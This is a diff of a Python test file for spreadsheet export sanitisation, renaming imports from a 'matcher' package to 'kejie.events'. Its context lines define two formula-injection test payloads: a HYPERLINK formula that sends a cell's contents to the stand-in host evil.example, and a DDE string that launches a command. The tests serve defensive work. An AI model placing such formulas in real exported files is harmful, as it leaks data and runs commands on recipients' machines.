@@ -13,11 +13,11 @@ from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
 from ingest.sanitize import FORMULA_TRIGGERS, safe_cell, safe_tree
-from matcher.event_plan import plan_event
-from matcher.export import export_match_list
+from kejie.events import plan_event
+from kejie.events.export import export_match_list
 from models import MatchList
 from tests.factories import make_demand, make_enterprise, make_expert, make_society
-from tests.matcher.test_event_plan import TableScorer, make_event
+from tests.kejie.test_event_plan import TableScorer, make_event
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 DDE = "=cmd|' /C calc'!A0"
@@ -124,7 +124,7 @@ def test_csv_and_json_neutralise_the_same_way(session: Session, hostile_plan: Ma
 def test_batch_plan_with_control_characters_exports(
     session: Session, hostile_plan: MatchList, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
-    from tests.matcher.test_event_plan import _cli
+    from tests.kejie.test_event_plan import _cli
 
     result = _cli(
         session,
